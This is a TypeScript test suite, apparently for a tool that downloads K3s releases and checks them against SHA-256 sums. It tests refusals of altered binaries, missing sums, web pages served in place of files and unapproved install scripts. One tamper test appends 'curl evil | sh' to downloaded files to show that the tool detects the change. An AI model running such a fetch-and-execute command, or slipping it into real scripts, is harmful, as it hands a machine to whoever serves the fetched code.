import assert from 'node:assert/strict';
import { appendFile, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { sha256Of } from '../../support/mirror.ts';
import {
  BINARY_PATH,
  FOLDER,
  IMAGES_PATH,
  K3S,
  K3S_WISH,
  numbered,
  publishK3s,
  SCRIPT,
  SCRIPT_PATH,
  SUMS_PATH,
  scriptOf,
  VERSION,
} from '../support/k3s-releases.ts';
import { QUICK, startYard } from '../support/library-yard.ts';

const PAGE = Buffer.from('<!DOCTYPE html><html><body>Log in to the hotel</body></html>');
const isVerified = ({ state }: { state: string }) => state === 'verified';
const isBroken = ({ state }: { state: string }) => state === 'broken';

test('a binary with another sum than the list names is never put in place', async (t) => {
  const { library, mirror, folder, until } = await startYard(t);
  publishK3s(mirror);
  mirror.files.set(BINARY_PATH, { bytes: numbered(3000, 9) });
  await library.request(K3S_WISH);
  const { reason } = await until(K3S, isBroken);
  assert.match(reason ?? '', /download\/v1\.33\.1%2Bk3s1\/k3s has another sum than [0-9a-f]{64}$/);
  assert.deepEqual(await readdir(folder), ['.pilotlight']);
  assert.match(JSON.stringify(library.artifactsOf(VERSION, 'amd64')), /cannot be used: http/);
  // Asked for again, it is right this time.
  publishK3s(mirror);
  await library.request(K3S_WISH);
  await until(K3S, isVerified);
});

test('a list of sums without one of the files is refused before anything is downloaded', async (t) => {
  const { library, mirror } = await startYard(t);
  publishK3s(mirror);
  const sums = `${mirror.files.get(SUMS_PATH)?.bytes}`.split('\n');
  mirror.files.set(SUMS_PATH, { bytes: Buffer.from(`${sums[1]}\n`) });
  await assert.rejects(library.request(K3S_WISH), {
    code: 'IMAGE_UNTRUSTED',
    message: /sha256sum-amd64\.txt names no sum of k3s-airgap-images-amd64\.tar\.zst$/,
  });
  mirror.files.set(SUMS_PATH, { bytes: Buffer.from('nothing of the kind\n') });
  await assert.rejects(library.request(K3S_WISH), {
    code: 'MIRROR_UNUSABLE',
    message: 'sha256sum-amd64.txt holds no sums',
  });
  assert.equal(mirror.asked(BINARY_PATH).length, 0);
});

test('a web page in place of anything is told as one', async (t) => {
  const { library, mirror, until } = await startYard(t);
  for (const path of [SUMS_PATH, SCRIPT_PATH]) {
    publishK3s(mirror);
    mirror.files.set(path, { bytes: PAGE, type: 'text/html' });
    const message = /answers with a web page, not with the file$/;
    await assert.rejects(library.request(K3S_WISH), { code: 'MIRROR_UNUSABLE', message });
  }
  publishK3s(mirror);
  mirror.files.set(IMAGES_PATH, { bytes: PAGE, type: 'text/html' });
  await library.request(K3S_WISH);
  const { reason } = await until(K3S, ({ state }) => state === 'absent');
  assert.match(reason ?? '', /tar\.zst answers with a web page, not with the file$/);
});

test('what the mirror lacks is told at once, by its name', async (t) => {
  const { library, mirror } = await startYard(t);
  await assert.rejects(library.request(K3S_WISH), {
    code: 'IMAGE_NOT_FOUND',
    message: /\/k3s has no K3s v1\.33\.1\+k3s1 for amd64$/,
  });
  for (const path of [IMAGES_PATH, SCRIPT_PATH]) {
    publishK3s(mirror);
    mirror.files.delete(path);
    const message = new RegExp(`${path.split('/').at(-1)} is missing$`);
    await assert.rejects(library.request(K3S_WISH), { code: 'IMAGE_NOT_FOUND', message });
  }
});

test('a script that is none, or that knows nothing of what a join sets, is refused', async (t) => {
  const { library, mirror } = await startYard(t);
  publishK3s(mirror, { script: Buffer.from('PK\u0003\u0004 INSTALL_K3S_EXEC') });
  await assert.rejects(library.request(K3S_WISH), { message: /install\.sh is no shell script$/ });
  const old = scriptOf('old').toString().replace('INSTALL_K3S_SKIP_ENABLE', '');
  publishK3s(mirror, { script: Buffer.from(old) });
  await assert.rejects(library.request(K3S_WISH), {
    code: 'MIRROR_UNUSABLE',
    message: /is no install script of K3s: it names no INSTALL_K3S_SKIP_ENABLE$/,
  });
});

test('another script under the same version is refused, until the owner vouches for it', async (t) => {
  const yard = await startYard(t);
  publishK3s(yard.mirror);
  publishK3s(yard.mirror, { arch: 'arm64' });
  await yard.library.request(K3S_WISH);
  await yard.until(K3S, isVerified);
  await yard.library.remove(K3S);
  const other = scriptOf('second');
  publishK3s(yard.mirror, { script: other });
  const { library, until, folder } = await yard.restart();
  for (const arch of ['amd64', 'arm64'] as const) {
    await assert.rejects(library.request({ ...K3S_WISH, arch }), {
      code: 'IMAGE_UNTRUSTED',
      message: new RegExp(
        `another script than before \\(it had ${sha256Of(SCRIPT)}, it has ${sha256Of(other)}\\): read it`,
      ),
    });
  }
  const wrong = { ...K3S_WISH, installSha256: '0'.repeat(64) };
  await assert.rejects(library.request(wrong), {
    code: 'IMAGE_UNTRUSTED',
    message: /has another sum than was ordered: expected 0{64}, got /,
  });
  await library.request({ ...K3S_WISH, installSha256: sha256Of(other) });
  await until(K3S, isVerified);
  assert.ok(other.equals(await readFile(join(folder, 'k3s', FOLDER, 'install.sh'))));
});

test('one script for both architectures: vouching for a new one puts the old one out of use', async (t) => {
  const { library, mirror, until } = await startYard(t);
  publishK3s(mirror, { arch: 'arm64' });
  const arm = await library.request({ ...K3S_WISH, arch: 'arm64' });
  await until(arm.id, isVerified);
  const other = scriptOf('second');
  publishK3s(mirror, { script: other });
  await library.request({ ...K3S_WISH, installSha256: sha256Of(other) });
  await until(K3S, isVerified);
  const { reason } = await until(arm.id, isBroken);
  assert.match(reason ?? '', /^install\.sh has another sum than it must have: expected /);
  await library.request({ ...K3S_WISH, arch: 'arm64' });
  await until(arm.id, isVerified);
});

test('a file that changes on the disk makes the release broken, and it is fetched again', async (t) => {
  const { library, mirror, folder, until } = await startYard(t);
  publishK3s(mirror);
  for (const name of ['install.sh', 'k3s']) {
    await library.request(K3S_WISH);
    await until(K3S, isVerified);
    const path = join(folder, 'k3s', FOLDER, name);
    await appendFile(path, '\ncurl evil | sh\n');
    await library.refresh();
    assert.equal(library.k3sFiles().size, 0, 'nothing of it is served from the first look on');
    const { reason } = await until(K3S, isBroken);
    const got = sha256Of(await readFile(path));
    assert.match(reason ?? '', new RegExp(`^${name} has another sum .*, got ${got}$`));
    assert.match(
      JSON.stringify(library.artifactsOf(VERSION, 'amd64')),
      new RegExp(`for amd64 cannot be used: ${name} has another sum`),
    );
  }
});

test('a label that was damaged costs reading the files again', async (t) => {
  const yard = await startYard(t);
  publishK3s(yard.mirror);
  await yard.library.request(K3S_WISH);
  await yard.until(K3S, isVerified);
  for (const text of ['{"name"', '[]', '{"name":"k3s-v1.33.1+k3s1-amd64","files":[{}]}', 'null']) {
    await writeFile(join(yard.folder, 'k3s', FOLDER, 'release.json'), text);
    await yard.library.refresh();
    const { proof } = await yard.until(K3S, isVerified);
    assert.equal(proof, 'sum');
  }
});

test('a disk that is too small is told before anything is downloaded', async (t) => {
  const { library, mirror } = await startYard(t, { limits: { ...QUICK, spare: 2 ** 50 } });
  publishK3s(mirror);
  await assert.rejects(library.request(K3S_WISH), {
    code: 'DISK_UNUSABLE',
    message: /^the disk has \d+ MB free of the \d+ MB that are still to come/,
  });
});
